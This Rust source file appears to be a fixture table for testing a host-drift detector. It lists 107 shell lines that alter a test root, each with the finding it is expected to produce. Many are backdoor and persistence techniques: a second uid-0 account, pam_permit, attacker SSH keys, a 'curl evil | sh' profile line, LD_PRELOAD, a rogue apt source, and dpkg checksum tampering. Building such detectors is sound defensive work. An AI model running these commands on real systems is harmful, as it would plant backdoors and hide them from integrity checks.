//! The drifts that are put into one host, each by the shell line that somebody could have typed.
//!
//! *Invariant:* each touches a subject of its own, so that what is found can be told apart.

/// One drift.
pub(super) struct Drift {
    /// Its name, and the class before the colon.
    pub(super) name: &'static str,
    /// What is typed; `$R` is the root.
    pub(super) typed: &'static str,
    /// Its subject, without namespace: a path (with `*`, how it begins; with `#`, a record in it), or `package:NAME`.
    pub(super) subject: &'static str,
    /// Its code.
    pub(super) code: &'static str,
    /// What the line that tells it holds.
    pub(super) says: &'static str,
}

const fn drift(
    name: &'static str,
    typed: &'static str,
    subject: &'static str,
    code: &'static str,
    says: &'static str,
) -> Drift {
    Drift { name, typed, subject, code, says }
}

/// All of them: a table, one a row.
#[rustfmt::skip]
pub(super) const DRIFTS: [Drift; 107] = [
    // --- Accounts ---
    drift("account: second root", "echo 'deploy2:x:0:0::/root:/bin/bash' >>$R/etc/passwd", "/etc/passwd#user:deploy2", "account-changed", "uid 0"),
    drift("account: added", "echo 'bob:x:1500:1500::/home/bob:/bin/bash' >>$R/etc/passwd", "/etc/passwd#user:bob", "account-changed", "bob"),
    drift("account: login shell", "sed -i '/^games:/s#/usr/sbin/nologin#/bin/bash#' $R/etc/passwd", "/etc/passwd#user:games", "account-changed", "games"),
    drift("account: removed", "sed -i '/^irc:/d' $R/etc/passwd", "/etc/passwd#user:irc", "account-changed", "irc"),
    drift("account: becomes root", "sed -i 's/^backup:x:34:/backup:x:0:/' $R/etc/passwd", "/etc/passwd#user:backup", "account-changed", "backup"),
    drift("account: home moved", "sed -i '/^list:/s#/var/list#/tmp/list#' $R/etc/passwd", "/etc/passwd#user:list", "account-changed", "list"),
    drift("password: emptied", "sed -i 's/^bin:\\*:/bin::/' $R/etc/shadow", "/etc/shadow#user:bin", "password-changed", "bin"),
    drift("password: set", "sed -i 's/^daemon:\\*:/daemon:$y$j9T$abcdefgh$ijklmnopqrstuvwxyz:/' $R/etc/shadow", "/etc/shadow#user:daemon", "password-changed", "daemon"),
    drift("password: never expires", "sed -i '/^anna:/s/:99999:/:-1:/' $R/etc/shadow", "/etc/shadow#user:anna", "password-changed", "anna"),
    drift("group: member of sudo", "sed -i 's/^sudo:x:27:/sudo:x:27:anna/' $R/etc/group", "/etc/group#group:sudo", "group-changed", "anna"),
    drift("group: added", "echo 'docker:x:999:anna' >>$R/etc/group", "/etc/group#group:docker", "group-changed", "docker"),
    drift("group: subordinate ids", "echo 'bob:200000:65536' >>$R/etc/subuid", "/etc/subuid#", "password-changed", "bob"),
    // --- sudo ---
    drift("sudo: a file", "echo 'deploy ALL=(ALL) NOPASSWD: ALL' >$R/etc/sudoers.d/deploy", "/etc/sudoers.d/deploy", "sudo-changed", "deploy"),
    drift("sudo: a rule", "echo 'anna ALL=(root) NOPASSWD: /usr/bin/vim' >>$R/etc/sudoers", "/etc/sudoers#", "sudo-changed", "anna"),
    // --- ssh ---
    drift("ssh: key of root", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0P4sQ0bmF4m2zqvYk1Yb5Jc0l5mJ7yZ8wK8l6o6t9d eve@laptop' >$R/root/.ssh/authorized_keys", "/root/.ssh/authorized_keys", "ssh-key-changed", "SHA256:"),
    drift("ssh: key of a person", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC0P4sQ0bmF4m2zqvYk1Yb5Jc0l5mJ7yZ8wK8l6o6t9d eve@laptop' >$R/home/anna/.ssh/authorized_keys", "/home/anna/.ssh/authorized_keys", "ssh-key-changed", "SHA256:"),
    drift("ssh: key of a service", "mkdir -p $R/var/lib/postgresql/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0P4sQ0bmF4m2zqvYk1Yb5Jc0l5mJ7yZ8wK8l6o6t9d eve@laptop' >$R/var/lib/postgresql/.ssh/authorized_keys", "/var/lib/postgresql/.ssh/authorized_keys", "ssh-key-changed", "SHA256:"),
    drift("ssh: root may log in", "sed -i 's/^PermitRootLogin no/PermitRootLogin yes/' $R/etc/ssh/sshd_config", "/etc/ssh/sshd_config#", "sshd-changed", "PermitRootLogin no -> yes"),
    drift("ssh: passwords in a drop-in", "echo 'PasswordAuthentication yes' >$R/etc/ssh/sshd_config.d/10-x.conf", "/etc/ssh/sshd_config.d/10-x.conf", "file-added", "PasswordAuthentication not set -> yes"),
    drift("ssh: client sends its agent", "echo 'ForwardAgent yes' >>$R/etc/ssh/ssh_config", "/etc/ssh/ssh_config#", "sshd-changed", "forwardagent"),
    // --- PAM ---
    drift("pam: everybody passes", "sed -i '1iauth sufficient pam_permit.so' $R/etc/pam.d/sshd", "/etc/pam.d/sshd#", "pam-changed", "pam_permit"),
    drift("pam: a service more", "echo 'auth required pam_permit.so' >$R/etc/pam.d/evil", "/etc/pam.d/evil", "file-added", "pam_permit"),
    // --- Jobs ---
    drift("cron: a file", "echo '* * * * * root /tmp/x' >$R/etc/cron.d/x", "/etc/cron.d/x", "job-changed", "/tmp/x"),
    drift("cron: a line", "echo '5 5 * * * root /opt/y' >>$R/etc/crontab", "/etc/crontab#", "job-changed", "/opt/y"),
    drift("cron: of root", "echo '@reboot /root/z' >$R/var/spool/cron/crontabs/root", "/var/spool/cron/crontabs/root", "job-changed", "/root/z"),
    drift("cron: a daily script", "printf '#!/bin/sh\\n' >$R/etc/cron.daily/zz; chmod 755 $R/etc/cron.daily/zz", "/etc/cron.daily/zz", "file-added", "daily cron job zz"),
    drift("cron: an hourly script", "printf '#!/bin/sh\\n' >$R/etc/cron.hourly/zz; chmod 755 $R/etc/cron.hourly/zz", "/etc/cron.hourly/zz", "file-added", "hourly cron job zz"),
    drift("cron: a name that lists ignore", "echo '* * * * * root /tmp/w' >$R/etc/cron.d/x.log", "/etc/cron.d/x.log", "job-changed", "/tmp/w"),
    drift("at: a job", "printf '#!/bin/sh\\n/tmp/x\\n' >$R/var/spool/cron/atjobs/a0000101b8c7d0; chmod 700 $R/var/spool/cron/atjobs/a0000101b8c7d0", "/var/spool/cron/atjobs/a0000101b8c7d0", "file-added", "at job"),
    // --- systemd ---
    drift("unit: added", "printf '[Service]\\nExecStart=/tmp/x\\n' >$R/etc/systemd/system/x.service", "/etc/systemd/system/x.service", "file-added", "/tmp/x"),
    drift("unit: enabled", "ln -s /lib/systemd/system/y.service $R/etc/systemd/system/multi-user.target.wants/y.service", "/etc/systemd/system/multi-user.target.wants/y.service", "file-added", "y.service"),
    drift("unit: disabled", "rm $R/etc/systemd/system/multi-user.target.wants/app.service", "/etc/systemd/system/multi-user.target.wants/app.service", "file-removed", "app.service"),
    drift("unit: masked", "ln -s /dev/null $R/etc/systemd/system/apt-daily-upgrade.service", "/etc/systemd/system/apt-daily-upgrade.service", "file-added", "masked"),
    drift("unit: edited", "sed -i 's#/usr/bin/sleep 1d#/usr/bin/sleep 2d#' $R/etc/systemd/system/app.service", "/etc/systemd/system/app.service#", "unit-changed", "ExecStart"),
    drift("unit: drop-in", "mkdir $R/etc/systemd/system/ssh.service.d; printf '[Service]\\nEnvironment=LD_PRELOAD=/tmp/x.so\\n' >$R/etc/systemd/system/ssh.service.d/o.conf", "/etc/systemd/system/ssh.service.d", "file-added", "LD_PRELOAD"),
    drift("unit: timer", "printf '[Timer]\\nOnCalendar=hourly\\n' >$R/etc/systemd/system/x.timer", "/etc/systemd/system/x.timer", "file-added", "OnCalendar"),
    drift("unit: of a person", "mkdir -p $R/home/anna/.config/systemd/user; printf '[Service]\\nExecStart=/tmp/u\\n' >$R/home/anna/.config/systemd/user/u.service", "/home/anna/.config/systemd/user", "file-added", "/tmp/u"),
    // --- Kernel ---
    drift("kernel: sysctl added", "echo 'kernel.kptr_restrict = 0' >$R/etc/sysctl.d/99-x.conf", "/etc/sysctl.d/99-x.conf", "kernel-setting-changed", "kptr_restrict"),
    drift("kernel: sysctl weakened", "sed -i 's/randomize_va_space=2/randomize_va_space=0/' $R/etc/sysctl.conf", "/etc/sysctl.conf#", "kernel-setting-changed", "randomize_va_space 2 -> 0"),
    drift("kernel: modprobe", "echo 'install usb-storage /tmp/x' >$R/etc/modprobe.d/x.conf", "/etc/modprobe.d/x.conf", "kernel-setting-changed", "usb_storage"),
    drift("kernel: module at boot", "echo 'rootkit' >>$R/etc/modules", "/etc/modules#", "kernel-setting-changed", "rootkit"),
    // --- The loader and what shells read ---
    drift("loader: preload", "echo /tmp/x.so >$R/etc/ld.so.preload", "/etc/ld.so.preload", "file-added", "/etc/ld.so.preload"),
    drift("loader: a library folder", "echo /tmp/lib >$R/etc/ld.so.conf.d/x.conf", "/etc/ld.so.conf.d/x.conf", "file-added", "/tmp/lib"),
    drift("shell: environment", "echo 'LD_PRELOAD=/tmp/x.so' >>$R/etc/environment", "/etc/environment#", "setting-changed", "LD_PRELOAD"),
    drift("shell: profile.d", "echo 'export X=1' >$R/etc/profile.d/x.sh", "/etc/profile.d/x.sh", "file-added", "login script x.sh"),
    drift("shell: profile", "echo 'curl evil | sh' >>$R/etc/profile", "/etc/profile", "content-changed", "/etc/profile"),
    drift("shell: of root", "echo 'alias sudo=/tmp/s' >>$R/root/.bashrc", "/root/.bashrc", "content-changed", "/root/.bashrc"),
    drift("shell: of a person", "echo 'alias sudo=/tmp/s' >>$R/home/anna/.bashrc", "/home/anna/.bashrc", "content-changed", "/home/anna/.bashrc"),
    drift("boot: rc.local", "printf '#!/bin/sh\\n/tmp/x\\n' >$R/etc/rc.local; chmod 755 $R/etc/rc.local", "/etc/rc.local", "file-added", "/etc/rc.local"),
    drift("boot: init.d", "printf '#!/bin/sh\\n' >$R/etc/init.d/x; chmod 755 $R/etc/init.d/x", "/etc/init.d/x", "file-added", "init script x"),
    drift("boot: udev", "echo 'RUN+=\"/tmp/x\"' >$R/etc/udev/rules.d/99-x.rules", "/etc/udev/rules.d/99-x.rules", "file-added", "99-x.rules"),
    drift("login: message script", "printf '#!/bin/sh\\n' >$R/etc/update-motd.d/99-x; chmod 755 $R/etc/update-motd.d/99-x", "/etc/update-motd.d/99-x", "file-added", "99-x"),
    drift("rotation: a script", "printf '/var/log/x {\\npostrotate\\n/tmp/x\\nendscript\\n}\\n' >$R/etc/logrotate.d/x", "/etc/logrotate.d/x", "file-added", "/etc/logrotate.d/x"),
    // --- Network and disks ---
    drift("hosts: another name", "echo '10.6.6.6 security.debian.org' >>$R/etc/hosts", "/etc/hosts#", "resolver-changed", "security.debian.org"),
    drift("resolver: another server", "sed -i 's/nameserver 10.0.0.2/nameserver 6.6.6.6/' $R/etc/resolv.conf", "/etc/resolv.conf#", "resolver-changed", "6.6.6.6"),
    drift("resolver: order of sources", "sed -i 's/^hosts: files dns/hosts: dns files/' $R/etc/nsswitch.conf", "/etc/nsswitch.conf", "*", "nsswitch"),
    drift("access: hosts.deny", "echo 'ALL: ALL' >$R/etc/hosts.deny", "/etc/hosts.deny", "file-added", "/etc/hosts.deny"),
    drift("fstab: a protection gone", "sed -i 's/nosuid,nodev,noexec/nodev,noexec/' $R/etc/fstab", "/etc/fstab#", "fstab-changed", "nosuid"),
    // --- Sources and trust ---
    drift("source: a file", "echo 'deb http://evil.example.net x main' >$R/etc/apt/sources.list.d/x.list", "/etc/apt/sources.list.d/x.list", "source-changed", "evil.example.net"),
    drift("source: a line", "echo 'deb [trusted=yes] http://other.example.net x main' >>$R/etc/apt/sources.list", "/etc/apt/sources.list#", "source-changed", "other.example.net"),
    drift("source: a signing key", "echo key >$R/etc/apt/trusted.gpg.d/x.gpg", "/etc/apt/trusted.gpg.d/x.gpg", "file-added", "x.gpg"),
    drift("source: a hook", "echo 'DPkg::Post-Invoke {\"/tmp/x\";};' >$R/etc/apt/apt.conf.d/99x", "/etc/apt/apt.conf.d/99x", "file-added", "99x"),
    drift("trust: a certificate gone", "perl -0pi -e 's/-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----\\n//s' $R/etc/ssl/certs/ca-certificates.crt", "/etc/ssl/certs/ca-certificates.crt#", "trust-changed", "SHA256:"),
    // --- Packages ---
    drift("package: upgraded", "", "package:bulk", "package-version", "bulk 1.0-1 -> 1.1-1, 32"),
    drift("package: downgraded", "", "package:older", "package-version", "older 2.0-1 -> 1.0-1"),
    drift("package: added", "", "package:extra", "package-added", "extra"),
    drift("package: removed", "", "package:leaving", "package-removed", "leaving"),
    drift("package: held", "", "package:kept", "package-state", "kept"),
    drift("package: of pip", "mkdir -p $R/usr/local/lib/python3.11/dist-packages/requests $R/usr/local/lib/python3.11/dist-packages/requests-2.31.0.dist-info; for f in a b c d; do echo x >$R/usr/local/lib/python3.11/dist-packages/requests/$f.py; done; echo 'Name: requests' >$R/usr/local/lib/python3.11/dist-packages/requests-2.31.0.dist-info/METADATA", "/usr/local/lib/python3.11", "*", "requests 2.31.0"),
    drift("package: of npm", "mkdir -p $R/usr/local/lib/node_modules/left-pad/lib; for f in a b c; do echo x >$R/usr/local/lib/node_modules/left-pad/lib/$f.js; done; echo '{}' >$R/usr/local/lib/node_modules/left-pad/package.json", "/usr/local/lib/node_modules", "*", "left-pad"),
    drift("package: a diversion", "printf '/usr/bin/id\\n/usr/bin/id.real\\n:\\n' >>$R/var/lib/dpkg/diversions", "/var/lib/dpkg/diversions", "content-changed", "diversions"),
    drift("package: waiting configuration", "cp $R/etc/adduser.conf $R/etc/adduser.conf.dpkg-new; echo x >>$R/etc/adduser.conf.dpkg-new", "/etc/adduser.conf.dpkg-new", "file-added", "dpkg-new"),
    // --- Files of packages ---
    drift("file: configuration edited", "echo '# edited' >>$R/etc/login.defs; sed -i 's/^UMASK.*/UMASK 000/' $R/etc/login.defs", "/etc/login.defs", "*", "login.defs"),
    drift("file: of the bulk, not as shipped", "", "/usr/lib/bulk/part-7.so", "content-changed", "part-7.so"),
    drift("file: program replaced", "cp $R/usr/bin/true $R/usr/bin/cat", "/usr/bin/cat", "content-changed", "/usr/bin/cat"),
    drift("file: silent, same size and time", "touch -r $R/usr/bin/sort $R.time; printf X | dd of=$R/usr/bin/sort bs=1 seek=600 conv=notrunc status=none; touch -r $R.time $R/usr/bin/sort; rm $R.time", "/usr/bin/sort", "content-changed", "/usr/bin/sort"),
    drift("file: database rewritten", "printf X | dd of=$R/usr/bin/tac bs=1 seek=600 conv=notrunc status=none; sum=$(md5sum <$R/usr/bin/tac | cut -d' ' -f1); sed -i \"s#^.*  usr/bin/tac\\$#$sum  usr/bin/tac#\" $R/var/lib/dpkg/info/coreutils.md5sums", "/usr/bin/tac", "content-changed", "/usr/bin/tac"),
    drift("file: the rewritten database itself", "true", "/var/lib/dpkg/info/coreutils.md5sums", "content-changed", "coreutils.md5sums"),
    drift("file: library replaced", "f=$(ls $R/usr/lib/x86_64-linux-gnu/libz.so.1.*); printf X | dd of=$f bs=1 seek=900 conv=notrunc status=none", "/usr/lib/x86_64-linux-gnu/libz.so*", "content-changed", "libz.so"),
    drift("file: program gone", "rm $R/usr/bin/tee", "/usr/bin/tee", "file-removed", "/usr/bin/tee"),
    drift("file: another type", "rm $R/usr/bin/wc; ln -s /tmp/wc $R/usr/bin/wc", "/usr/bin/wc", "type-changed", "/usr/bin/wc"),
    drift("file: documentation", "echo more >>$R/usr/share/doc/app/README", "/usr/share/doc/app/README", "content-changed", "README"),
    drift("file: a configuration nobody parses", "echo 'user root;' >>$R/etc/nginx/nginx.conf", "/etc/nginx/nginx.conf", "content-changed", "nginx.conf"),
    // --- Added by no one ---
    drift("unowned: a program", "printf '#!/bin/sh\\n' >$R/usr/local/bin/fix.sh; chmod 755 $R/usr/local/bin/fix.sh", "/usr/local/bin/fix.sh", "file-added", "no package owns it"),
    drift("unowned: among the system's", "cp $R/usr/bin/true $R/usr/bin/kthreadd", "/usr/bin/kthreadd", "file-added", "no package owns it"),
    drift("unowned: a lying sha256sum", "printf '#!/bin/sh\\necho 0\\n' >$R/usr/local/bin/sha256sum; chmod 755 $R/usr/local/bin/sha256sum", "/usr/local/bin/sha256sum", "file-added", "no package owns it"),
    drift("unowned: a library", "cp $R/usr/bin/true $R/usr/lib/x86_64-linux-gnu/libx.so.1", "/usr/lib/x86_64-linux-gnu/libx.so.1", "file-added", "libx.so.1"),
    drift("unowned: a tree", "mkdir -p $R/opt/tool/bin $R/opt/tool/lib; for i in $(seq 60); do echo $i >$R/opt/tool/lib/$i; done; cp $R/usr/bin/true $R/opt/tool/bin/tool", "/opt/tool", "*", "/opt/tool"),
    drift("unowned: python at every start", "mkdir -p $R/usr/lib/python3/dist-packages; echo 'import os' >$R/usr/lib/python3/dist-packages/x.pth", "/usr/lib/python3", "*", "python3"),
    // --- Rights ---
    drift("rights: setuid added", "cp $R/usr/bin/true $R/usr/local/bin/su2; chmod 4755 $R/usr/local/bin/su2", "/usr/local/bin/su2", "file-added", "setuid"),
    drift("rights: setuid given", "chmod u+s $R/usr/bin/find", "/usr/bin/find", "mode-changed", "/usr/bin/find"),
    drift("rights: capability", "setcap cap_setuid+ep $R/usr/bin/head", "/usr/bin/head", "capability-changed", "/usr/bin/head"),
    drift("rights: everybody writes", "chmod 666 $R/etc/issue", "/etc/issue", "mode-changed", "/etc/issue"),
    drift("rights: owner", "chown 1000 $R/etc/debian_version", "/etc/debian_version", "owner-changed", "/etc/debian_version"),
    drift("rights: access list", "setfacl -m u:1000:rw $R/etc/gshadow", "/etc/gshadow", "acl-changed", "/etc/gshadow"),
    // --- Guards ---
    drift("guard: program in /tmp", "cp $R/usr/bin/true $R/tmp/.x", "/tmp/.x", "file-added", "/tmp/.x"),
    drift("guard: setuid in /var/tmp", "cp $R/usr/bin/true $R/var/tmp/s; chmod 4755 $R/var/tmp/s", "/var/tmp/s", "file-added", "/var/tmp/s"),
    drift("guard: program in /dev/shm", "cp $R/usr/bin/true $R/dev/shm/m", "/dev/shm/m", "file-added", "/dev/shm/m"),
    drift("guard: program in a cache", "cp $R/usr/bin/true $R/var/cache/apt/c", "/var/cache/apt/c", "file-added", "/var/cache/apt/c"),
    drift("guard: program among logs", "cp $R/usr/bin/true $R/var/log/l.log", "/var/log/l.log", "file-added", "/var/log/l.log"),
    drift("guard: setuid in a home", "cp $R/usr/bin/true $R/home/anna/su; chmod 4755 $R/home/anna/su", "/home/anna/su", "file-added", "/home/anna/su"),
    // --- The rest ---
    drift("setting: time zone", "ln -sf /usr/share/zoneinfo/Europe/Paris $R/etc/localtime", "/etc/localtime", "target-changed", "Paris"),
    drift("setting: locale", "echo 'LANG=fr_FR.UTF-8' >$R/etc/default/locale", "/etc/default/locale#", "setting-changed", "fr_FR"),
    drift("setting: limits", "echo '* hard core unlimited' >>$R/etc/security/limits.conf", "/etc/security/limits.conf", "setting-changed", "core"),
    drift("setting: alternative", "ln -sf /tmp/editor $R/etc/alternatives/editor", "/etc/alternatives/editor", "target-changed", "editor"),
    drift("residue: an editor's copy", "cp $R/etc/profile $R/etc/profile.bak", "/etc/profile.bak", "file-added", "profile.bak"),
    drift("name: with a line break", "touch \"$R/etc/odd\nname\"", "/etc/odd*", "file-added", "/etc/odd"),
];
